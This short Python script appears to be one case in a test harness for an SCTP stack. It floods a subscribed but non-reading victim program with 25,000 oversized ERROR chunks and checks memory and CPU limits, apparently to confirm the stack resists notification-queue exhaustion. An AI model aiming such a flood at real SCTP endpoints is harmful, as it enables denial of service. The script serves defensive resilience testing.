"""ERROR chunks without end, to a program that has asked to be told and reads nothing."""
import struct

from attack import ASLEEP, RUN, main
from sctp import ERROR, Peer, chunk, parameter

COUNT = 25_000


def play(victim):
    peer = Peer().connect()
    cause = parameter(13, struct.pack(">I", 1) * 250)
    for n in range(COUNT):
        peer.send(chunk(ERROR, cause))
        if n % 64 == 0:
            peer.drain()
    return COUNT


main(play, victims=[RUN], memory=12, most=24, cpu=5, program=ASLEEP)
